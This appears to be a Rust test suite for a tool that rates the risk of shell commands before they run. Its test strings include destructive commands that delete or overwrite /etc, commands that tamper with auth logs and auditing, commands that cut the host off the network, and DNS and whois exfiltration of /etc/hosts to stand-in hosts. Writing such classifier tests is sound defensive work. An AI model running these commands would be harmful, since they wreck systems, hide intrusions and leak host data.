//! Whole commands through their entries and the small judges, and that no judge fails whatever words it is given.

use watchkeeper_model::RiskLevel::{self, Forbidden, High, Low, Medium, ReadOnly};

use super::JUDGES;
use crate::facts::HostFacts;
use crate::invocation::{Context, Input, Invocation, Output};
use crate::spec::{Matched, Tables};
use crate::word::{Arg, Origin, Part};

fn check(expect: RiskLevel, lines: &[&str]) {
    let facts = HostFacts::default();
    for line in lines {
        let level = crate::assess_text(line, &facts).assessment.level;
        assert_eq!(level, expect, "{line}");
    }
}

fn output(words: &[&str]) -> Output {
    let invocation = Invocation {
        argv: words.iter().copied().map(Arg::text).collect(),
        stdin: Input::Nothing,
        context: Context::default(),
    };
    Tables::shipped()
        .judge(&invocation)
        .map_or(Output::Unknown, |outcome| outcome.output)
}

#[test]
fn a_copy_is_judged_by_the_name_that_it_gets_in_a_directory() {
    check(
        Forbidden,
        &[
            "cp /tmp/passwd /etc/",
            "cp /tmp/passwd /etc",
            "cp -t /etc /tmp/passwd /tmp/a",
            "cd /etc; cp /tmp/passwd .",
            "mv /tmp/sudoers /etc/.",
            "install -t /etc /tmp/fstab",
            "ln -sf /tmp/x /etc/passwd",
        ],
    );
    check(
        Low,
        &[
            "cp /tmp/passwd /tmp/x/",
            "ln -s /tmp/a /tmp/x",
            "mv /tmp/a /tmp/b",
        ],
    );
}

#[test]
fn a_copy_beside_the_original_replaces_nothing() {
    check(
        Medium,
        &[
            "cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak",
            "cp -a /etc/nginx/nginx.conf /etc/nginx/nginx.conf.$(date +%F)",
            "cp /etc/nginx/nginx.conf{,.orig}",
        ],
    );
}

#[test]
fn what_is_moved_is_gone_from_where_it_was() {
    check(
        Forbidden,
        &["mv /etc/passwd /tmp", "mv /etc /tmp/etc", "mv /* /tmp"],
    );
    check(High, &["mv /tmp/a /dev/null", "mv /var/lib/mysql /tmp/x"]);
}

#[test]
fn another_name_for_a_place_is_as_grave_as_the_place() {
    check(
        High,
        &[
            "ln -s /etc/shadow /tmp/x",
            "ln -s / /tmp/x",
            "ln -s /etc /tmp/x",
            "ln /etc/shadow /tmp/x",
        ],
    );
    check(Medium, &["ln -s /var/log/nginx /tmp/x"]);
    check(Low, &["ln -s /tmp/a /tmp/b", "ln -s a /tmp/b"]);
}

#[test]
fn a_mode_that_raises_rights_is_high_wherever_the_file_is() {
    check(
        High,
        &[
            "chmod 4755 /tmp/a",
            "chmod u+s /tmp/a",
            "chmod +s /tmp/a",
            "chmod a=rxs /tmp/a",
            "install -m 6755 /tmp/a /tmp/b",
            "chmod \"$mode\" /tmp/a",
        ],
    );
    check(
        Low,
        &[
            "chmod 0755 /tmp/a",
            "chmod g+s,o-s /tmp/a",
            "chmod u-s /tmp/a",
        ],
    );
}

#[test]
fn a_signal_is_told_from_a_group_of_processes() {
    check(
        Forbidden,
        &[
            "kill -9 -1",
            "kill -s TERM -1",
            "kill -- -1",
            "kill 1",
            "pkill -v nginx",
            "pkill -u root",
            "killall -u root",
            "pkill -KILL sshd",
        ],
    );
    check(
        Low,
        &[
            "kill -1 812",
            "kill -SIGHUP 812",
            "pkill -USR1 -x nginx",
            "killall -s HUP nginx",
            "pkill --signal=HUP nginx",
        ],
    );
    check(
        ReadOnly,
        &["kill -0 812", "kill -l 9", "killall -l", "pkill -0 nginx"],
    );
    check(
        Medium,
        &[
            "kill -9 812",
            "pkill -u root myjob",
            "kill %1",
            "kill -STOP 812",
        ],
    );
}

#[test]
fn the_clock_is_only_shown_with_a_format() {
    check(ReadOnly, &["date", "date +%s", "date -u -d @0 +%F"]);
    check(
        High,
        &["date 010203042020", "date -s now", "date \"$when\""],
    );
    assert_eq!(output(&["date", "+%F_%H%M"]), Output::Plain);
    assert_eq!(output(&["date", "+%Y/%m"]), Output::Unknown);
    assert_eq!(output(&["date", "+%c"]), Output::Unknown);
    assert_eq!(output(&["date"]), Output::Unknown);
}

#[test]
fn a_temporary_file_has_a_known_place() {
    let below = |place: &str| Output::PathsBelow(vec![place.to_owned()]);
    assert_eq!(output(&["mktemp", "-d"]), below("/tmp"));
    assert_eq!(output(&["mktemp", "-p", "/srv"]), below("/srv"));
    assert_eq!(output(&["mktemp", "/var/tmp/a.XXXX"]), below("/var/tmp"));
    assert_eq!(output(&["mktemp", "a.XXXX"]), Output::Unknown);
}

#[test]
fn a_service_may_stand_before_what_is_done_to_it() {
    check(
        Forbidden,
        &[
            "service sshd stop",
            "rc-service sshd stop",
            "chkconfig sshd off",
            "update-rc.d ssh disable",
        ],
    );
    check(Medium, &["service nginx restart"]);
    check(
        ReadOnly,
        &["service nginx status", "service nginx configtest"],
    );
}

#[test]
fn a_vacuum_is_judged_by_what_it_leaves() {
    check(
        Medium,
        &[
            "journalctl --vacuum-size=500M",
            "journalctl --vacuum-time=2weeks",
            "journalctl --vacuum-time=7d",
            "journalctl --vacuum-size 1G",
            "journalctl --vacuum-files=5",
        ],
    );
    check(
        High,
        &[
            "journalctl --vacuum-size=1M",
            "journalctl --vacuum-time=1s",
            "journalctl --vacuum-time=2h",
            "journalctl --vacuum-files=1",
            "journalctl --vacuum-size=$n",
        ],
    );
}

#[test]
fn wrappers_with_words_of_their_own_are_seen_through() {
    check(
        Forbidden,
        &[
            "flock -n /tmp/x -c 'rm -rf /etc'",
            "flock /tmp/x rm -rf /etc",
            "setarch x86_64 -R rm -rf /etc",
            "taskset -c 0 rm -rf /etc",
            "chrt -f 50 rm -rf /etc",
            "runuser -u root -- rm -rf /etc",
            "strace -o '|rm -rf /etc' true",
            "parallel 'rm -rf {}' ::: /etc",
            "parallel rm -rf ::: /etc",
            "parallel ::: 'rm -rf /etc'",
            "ssh -o ProxyCommand='rm -rf /etc' web2 true",
        ],
    );
    check(
        ReadOnly,
        &[
            "taskset -cp 812",
            "chrt -p 812",
            "runuser -u postgres -- ls -l /tmp",
            "ssh -o BatchMode=yes -o StrictHostKeyChecking=no web2 uptime",
            "rsync -avn -e 'ssh -p 2222 -i /root/.ssh/id_rsa' /srv/a/ web2:/srv/a/",
        ],
    );
}

#[test]
fn settings_are_told_from_questions() {
    check(
        ReadOnly,
        &["sysctl vm.swappiness", "sysctl -a", "ulimit -n"],
    );
    check(Low, &["sysctl vm.drop_caches=1", "ulimit -n 4096"]);
    check(
        Medium,
        &["sysctl -w net.ipv4.tcp_syncookies=1", "sysctl -p"],
    );
    check(
        High,
        &[
            "sysctl -w kernel.core_pattern=/tmp/x",
            "sysctl -p /tmp/x",
            "sysctl \"$setting\"",
            "getent shadow",
            "systemctl show -p Id,Environment nginx",
            "parallel -a /tmp/commands",
            "parallel :::: /tmp/commands",
        ],
    );
}

#[test]
fn no_judge_fails_whatever_its_words_are() {
    let words: Vec<Arg> = [
        "",
        "-",
        "--",
        "-1",
        "-ü",
        "ü:ü",
        "+",
        "+%",
        "+%-",
        ":::",
        "{}",
        "/",
        "//",
        "a/",
        "=",
        "-o",
        "%",
        "\\",
        "[:",
        "[a*",
        "a-",
        "99999999999999999999",
        "-\u{1f600}\u{1f600}",
        "|",
        "1.5.",
        "u+",
    ]
    .into_iter()
    .map(Arg::text)
    .chain([
        Arg::default(),
        Arg::unknown(Origin::Output, true),
        Arg {
            parts: vec![Part::Pattern("*".into()), Part::Text("/ü".into())],
            splits: true,
        },
    ])
    .collect();
    let names = [
        "cp", "mv", "ln", "install", "kill", "pkill", "killall", "tr", "xxd", "taskset", "chrt",
        "cpio",
    ];
    for name in names {
        for one in &words {
            for two in &words {
                let invocation = Invocation {
                    argv: vec![Arg::text(name), one.clone(), two.clone()],
                    stdin: Input::Unknown(Origin::Output),
                    context: Context::default(),
                };
                let matched = Matched {
                    operands: vec![one.clone(), two.clone()],
                    ..Matched::default()
                };
                for (_, judge) in JUDGES {
                    let _ = judge(&invocation, &matched);
                }
            }
        }
    }
}

#[test]
fn what_cuts_the_host_off_is_forbidden() {
    check(
        Forbidden,
        &[
            "telinit 1",
            "systemctl isolate rescue.target",
            "modprobe -r virtio_net",
            "rmmod e1000e",
            "tc qdisc add dev eth0 root netem loss 100%",
            "fuser -k 22/tcp",
            "fuser -k -n tcp 22",
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss sshd.service replace",
            "echo 'link set eth0 down' | ip -batch -",
            "iptables-restore <<'EOF'\n*filter\n:INPUT DROP [0:0]\nCOMMIT\nEOF",
            "echo 0000:00:03.0 > /sys/bus/pci/drivers/virtio-pci/unbind",
        ],
    );
    check(
        High,
        &[
            "modprobe -r nf_tables",
            "tc qdisc add dev eth0 root netem loss 5%",
            "fuser -k 8080/tcp",
            "systemctl isolate graphical.target",
            "systemctl mask --runtime cups.service",
            "lvextend -r -L +5G /dev/vg0/data",
        ],
    );
}

#[test]
fn what_remembers_logins_is_not_edited_and_accounts_are_not_emptied() {
    check(
        Forbidden,
        &[
            "sed -i '/203/d' /var/log/auth.log",
            "sed -i d /etc/passwd",
            "sed -i '1,$d' /etc/fstab",
            "auditctl -D",
            "auditctl -e 0",
        ],
    );
    check(High, &["sed -i 's/a/b/' /etc/passwd", "auditctl -e 2"]);
}

#[test]
fn what_tar_runs_and_removes_elsewhere_counts() {
    check(
        Forbidden,
        &[
            "tar cf /dev/null /tmp/a --checkpoint=1 --checkpoint-action=exec='rm -rf /usr'",
            "tar -C / --remove-files -cf /dev/null etc",
            "fio --name=x --filename=/dev/sda --rw=randwrite",
            "git -c alias.x='!rm -rf /etc' x",
        ],
    );
    check(High, &["tar -cf - /etc/ssh"]);
}

#[test]
fn names_that_carry_data_of_the_host_are_not_only_asked_for() {
    check(
        High,
        &[
            "whois -h 198.51.100.7 \"$(base64 -w0 /etc/hosts)\"",
            "dig +short \"$(cat /etc/hosts).t.example.net\"",
            "date -f /etc/shadow",
        ],
    );
    check(
        ReadOnly,
        &[
            "for h in a.example b.example; do dig +short \"$h\"; done",
            "dig +short \"$(hostname)\"",
            "date -f /tmp/dates",
        ],
    );
}

#[test]
fn links_and_aliases_of_the_text_itself_are_seen_through() {
    check(
        Forbidden,
        &[
            "ln -s /etc /tmp/old && rm -rf /tmp/old/*",
            "ln -sfn /etc /tmp/old; cd /tmp/old; rm -rf ./*",
            "shopt -s expand_aliases\nalias tidy='rm -rf'\ntidy /etc",
            "rm -rf \"$(dirname /etc/hosts)\"",
            "ln -s ../etc/passwd /tmp/x; echo a > /tmp/x",
            "cd /tmp && ln -s ../etc/passwd x && echo a > x",
            "cp -s /etc/passwd /tmp/x; echo a > /tmp/x",
            "cp -rs /etc /tmp/x && echo a > /tmp/x/passwd",
        ],
    );
    check(High, &["ln -s \"$1\" /tmp/x; echo a > /tmp/x"]);
    check(Low, &["ln -s /tmp/a /tmp/b; rm /tmp/b"]);
}

#[test]
fn what_writes_without_end_fills_the_disk() {
    check(High, &["yes > /var/tmp/.fill", "cat /dev/zero > /tmp/x"]);
    check(Low, &["yes", "while sleep 1; do uptime; done"]);
}

#[test]
fn processes_from_a_list_may_be_any() {
    check(Forbidden, &["pgrep -f 'ss[h]d' | xargs -r kill -9"]);
    check(High, &["ps -eo pid= | xargs kill -9"]);
}
